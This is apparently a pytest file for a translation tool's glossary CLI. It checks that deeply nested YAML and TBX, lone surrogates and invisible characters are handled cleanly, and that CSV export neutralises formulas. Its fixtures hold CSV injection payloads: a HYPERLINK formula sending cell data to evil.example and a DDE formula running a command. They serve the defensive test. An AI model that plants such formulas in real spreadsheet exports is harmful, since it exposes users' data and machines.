"""Glossary files built to break the readers and the spreadsheets they are exported to, each
through the real CLI: deep nesting, lone surrogates, formulas in CSV cells."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest

from tests.support.cli import make_project, run_translate
from translate.glossary import load_glossary

REPO = Path(__file__).resolve().parents[1]
# What `translate check` has always ignored inside a name.
INVISIBLE = "\u00ad\u200b\u200c\u200d\u200e\u200f\u2060\ufeff\u061c"

CONCEPT = """\
concepts:
  - id: {id}
    kind: organization
    en:
      term: {term}
    tr:
      preferred: {target}
"""


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return make_project(tmp_path / "project")


def glossary(root: Path, text: str) -> Path:
    folder = root / "glossary"
    folder.mkdir(exist_ok=True)
    (folder / "organizations.yaml").write_text(text, encoding="utf-8")
    return folder


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("concepts: " + "[" * 5000 + "]" * 5000 + "\n", 1),
        ("concepts:\n" + "".join("  " * level + "-\n" for level in range(400)), 101),
    ],
    ids=["flow", "block"],
)
def test_a_glossary_nested_5000_deep_is_one_located_line(project, text, line):
    glossary(project, text)
    for command in (["run", "--mt", "off"], ["glossary", "list"], ["glossary", "find", "x"]):
        result = run_translate(*command, cwd=project)
        assert result.returncode == 2, result.stderr
        assert result.stderr == (
            f"translate: error: glossary/organizations.yaml:{line}: "
            "YAML syntax: nested deeper than 100 levels\n"
        )
    validate = run_translate("glossary", "validate", cwd=project)
    assert validate.returncode == 1
    assert validate.stdout.startswith(f"glossary/organizations.yaml:{line}: YAML syntax: nested")


def test_a_lone_surrogate_in_a_glossary_is_refused(project):
    """libyaml refuses the escape; the pure-Python parser it falls back to took it, and the
    run then failed writing the catalogs."""
    glossary(project, CONCEPT.format(id="reuters", term="Reuters", target='"Reuters\\udc00"'))
    result = run_translate("run", "--mt", "off", cwd=project)
    assert result.returncode == 2
    assert result.stderr == (
        "translate: error: glossary/organizations.yaml:7: "
        "YAML syntax: U+DC00 is a lone surrogate, not a character\n"
    )
    assert not (project / "locales").exists()


FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1;"Click")',
    "dde": '=DDE("cmd";"/C calc";"!A0")',
    "plus": "+SUM(1+1)",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "quoted": "'=already quoted",
}


def test_csv_export_defuses_formulas_and_import_gives_them_back(project):
    entries = "".join(
        CONCEPT.format(
            id=key, term=json.dumps(f"{key} group"), target=json.dumps(value)
        ).removeprefix("concepts:\n")
        for key, value in FORMULAS.items()
    )
    original = load_glossary(glossary(project, "concepts:\n" + entries))
    assert {c.targets["tr"].preferred for c in original} == set(FORMULAS.values())

    exported = run_translate("glossary", "export", "-f", "csv", "-o", "g.csv", cwd=project)
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.reader(io.StringIO((project / "g.csv").read_text(encoding="utf-8"))))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    targets = {row[0]: row[1] for row in rows[1:]}
    assert targets["hyperlink group"] == "'" + FORMULAS["hyperlink"]
    assert targets["quoted group"] == "''=already quoted"

    imported = run_translate("glossary", "import", "g.csv", "-o", "again", cwd=project)
    assert imported.returncode == 0, imported.stderr
    again = load_glossary(project / "again")
    assert again.version == original.version
    assert {c.targets["tr"].preferred for c in again} == set(FORMULAS.values())


def test_the_project_glossary_still_round_trips_through_csv(project):
    shutil.copytree(REPO / "glossary", project / "glossary")
    result = run_translate("glossary", "export", "-f", "csv", "-o", "g.csv", cwd=project)
    assert result.returncode == 0, result.stderr
    assert run_translate("glossary", "import", "g.csv", "-o", "g2", cwd=project).returncode == 0
    assert load_glossary(project / "g2").version == load_glossary(REPO / "glossary").version


def test_a_tbx_nested_5000_deep_is_one_located_line(project):
    """libxml2 refuses documents deeper than 256 levels; lxml then reports it at its line."""
    body = "<termEntry>" * 5000 + "</termEntry>" * 5000
    (project / "deep.tbx").write_text(
        f'<?xml version="1.0"?>\n<martif type="TBX"><text><body>\n{body}</body></text></martif>'
    )
    result = run_translate("glossary", "import", "deep.tbx", "-o", "imported", cwd=project)
    assert result.returncode == 2
    assert result.stderr.startswith("translate: error: deep.tbx:3: not well-formed XML: ")
    assert "Excessive depth" in result.stderr and result.stderr.count("\n") == 1
    assert not (project / "imported").exists()


def test_the_recogniser_ignores_every_invisible_character_check_ignores(project):
    """One table (`morphology.normalize.INVISIBLE`); the recogniser's own lacked the
    direction marks U+200E, U+200F and U+061C."""
    shutil.copytree(REPO / "glossary", project / "glossary")
    text = ", ".join(f"Ale{char}ppo" for char in INVISIBLE) + "."
    result = run_translate("glossary", "find", text, "--format", "json", cwd=project)
    assert result.returncode == 0, result.stderr
    found = json.loads(result.stdout)
    assert [match["concept"] for match in found] == ["aleppo"] * len(INVISIBLE)
